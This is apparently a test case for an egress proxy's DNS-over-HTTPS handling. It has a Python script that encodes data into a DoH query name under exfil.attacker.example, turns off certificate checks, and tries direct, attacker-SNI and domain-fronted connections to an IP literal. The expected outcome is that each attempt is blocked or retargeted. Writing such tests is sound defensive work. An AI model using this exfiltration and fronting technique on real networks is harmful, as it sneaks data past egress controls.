# what: DNS over HTTPS to an IP literal (https://198.18.1.66/dns-query), with no SNI, with the attacker's name as SNI, and with an allowed name as SNI (domain fronting)
# expect-denied: 198.18.1.66 443 tls unresolved_destination
# expect-denied: exfil.attacker.example 443 tls not_allowlisted
# expect-allowed: allowed.test tls
# inet: allow allowed.test
# expect-stdout: DONE 2 blocked 1 retargeted
# DoH is HTTPS like any other: judged on the SNI, or on the destination
# when there is none (an address proxyd never resolved for this session:
# unresolved_destination). With an allowed name as SNI the connection is
# allowed, but proxyd connects to the address it resolved for that name
# (allowed.test, 198.18.1.10), never to the client's choice: the query
# lands on allowed.test's server, and 198.18.1.66 sees nothing.
import base64
import socket
import ssl
import struct

# RFC 8484 GET: the query, base64url, carrying data in its name.
q = struct.pack(">HHHHHH", 0, 0x0100, 1, 0, 0, 0)
for label in "doh-736563726574.exfil.attacker.example".split("."):
    q += bytes([len(label)]) + label.encode()
q += b"\0" + struct.pack(">HH", 1, 1)
doh = "/dns-query?dns=" + base64.urlsafe_b64encode(q).decode().rstrip("=")

ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
blocked = retargeted = 0
for what, sni, path in [("no SNI", None, doh),
                        ("attacker SNI", "exfil.attacker.example", doh),
                        ("fronted with allowed.test", "allowed.test", "/")]:
    try:
        raw = socket.create_connection(("198.18.1.66", 443), timeout=10)
        s = ctx.wrap_socket(raw, server_hostname=sni)
        s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
                   % (path, sni or "198.18.1.66")).encode())
        data = b""
        while len(data) < 65536:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        s.close()
    except (OSError, ssl.SSLError) as e:
        blocked += 1
        print("BLOCKED", what, type(e).__name__)
        continue
    if sni == "allowed.test" and data.endswith(b"hello from allowed.test\n"):
        retargeted += 1
        print("RETARGETED", what, "to allowed.test's own server")
    else:
        print("LEAK", what, data[:60])
print("DONE", blocked, "blocked", retargeted, "retargeted")
